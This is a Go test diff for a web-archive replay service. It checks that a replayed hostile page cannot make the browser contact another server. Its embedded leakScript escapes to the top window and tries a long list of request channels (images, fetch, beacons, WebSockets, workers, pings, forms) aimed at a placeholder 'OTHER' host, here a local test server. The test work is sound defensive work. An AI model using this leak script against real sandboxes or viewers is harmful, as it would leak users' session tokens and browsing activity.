@@ -400,3 +400,77 @@ func TestReplaySessionsShareNoCookies(t *testing.T) {
 		t.Errorf("another session's pages read the hostile archive's cookies: %q", seen)
 	}
 }
+
+// leakScript tries every way a page has to make the browser send a request
+// to another server — subresources, script, styles, fonts, media, frames,
+// workers, beacons, pings, sockets, forms — once from the archived page
+// itself (as ReplayWeb.page serves it) and once from the real top window
+// it escapes to. OTHER is the other server. Top-level navigation is left
+// out: a page may always navigate its tab away.
+const leakScript = `
+(function () {
+  var T = Function("return top")();
+  function all(W, tag) {
+    var D = W.document, u = function (what) { return "OTHER/" + what + "-" + tag; };
+    function el(name, attrs) { var e = D.createElement(name); for (var k in attrs) { e.setAttribute(k, attrs[k]); } D.body.appendChild(e); return e; }
+    function t(f) { try { f(); } catch (e) {} }
+    t(function () { el("img", { src: u("img") }); });
+    t(function () { el("script", { src: u("script") }); });
+    t(function () { el("link", { rel: "stylesheet", href: u("css") }); });
+    t(function () { el("link", { rel: "prefetch", href: u("prefetch") }); });
+    t(function () { el("link", { rel: "preload", as: "fetch", href: u("preload") }); });
+    t(function () { el("style", {}).textContent = "@font-face { font-family: x; src: url(" + u("font") + "); } body { font-family: x; background: url(" + u("bg") + "); }"; });
+    t(function () { el("video", { src: u("video") }); });
+    t(function () { el("iframe", { src: u("iframe") }); });
+    t(function () { el("object", { data: u("object") }); });
+    t(function () { W.fetch(u("fetch"), { mode: "no-cors" }).catch(function () {}); });
+    t(function () { var x = new W.XMLHttpRequest(); x.open("GET", u("xhr")); x.send(); });
+    t(function () { W.navigator.sendBeacon(u("beacon"), "x"); });
+    t(function () { new W.EventSource(u("events")); });
+    t(function () { new W.WebSocket(u("ws").replace(/^http/, "ws")); });
+    t(function () { new W.Worker(u("worker")); });
+    t(function () { W.eval("import(" + JSON.stringify(u("module")) + ")").catch(function () {}); });
+    t(function () { var a = el("a", { href: "#", ping: u("ping") }); a.click(); });
+    t(function () {
+      el("iframe", { name: "sink-" + tag, style: "display:none" });
+      var f = el("form", { action: u("form"), method: "post", target: "sink-" + tag });
+      f.submit();
+    });
+  }
+  all(window, "frame");
+  all(T, "top");
+  setTimeout(function () { document.getElementById("loot").textContent = "LOOT:sent:LOOT"; }, 1500);
+})();
+`
+
+// TestReplayedPageReachesNoOtherServer: a replayed page (whether from the
+// archived page or from the top window it escapes to) makes the browser
+// send nothing to another server — no beacon that says who replays what,
+// no Referer or address carrying the session's token — whatever kind of
+// request it tries (leakScript). Navigating the tab away is the one thing
+// it may do.
+func TestReplayedPageReachesNoOtherServer(t *testing.T) {
+	// Not parallel: the package's browser tests take turns on two cores.
+	_, viewer := needBrowser(t)
+	var mu sync.Mutex
+	var got []string
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		got = append(got, r.Method+" "+r.URL.Path+" Referer: "+r.Referer())
+		mu.Unlock()
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+	}))
+	t.Cleanup(other.Close)
+	f := newReplayFixture(t, replayOptions{content: scriptedWACZ(t, strings.ReplaceAll(leakScript, "OTHER", other.URL)), sourceURL: hostilePage, viewerDir: viewer})
+	browser := browserTab(t, "", 3*time.Minute, chromedp.Flag("disable-quic", true), chromedp.WindowSize(1280, 900))
+	if err := chromedp.Do(browser, chromedp.Navigate("about:blank")); err != nil {
+		t.Fatal(err)
+	}
+	_, _ = openInNewTab(t, browser, f.mintLink(t, "/api/archives/"+f.ids[0]+"/replay", `{"page":"`+hostilePage+`"}`), "LOOT:sent")
+	time.Sleep(time.Second)
+	mu.Lock()
+	defer mu.Unlock()
+	for _, r := range got {
+		t.Errorf("the replayed page reached another server: %s", r)
+	}
+}
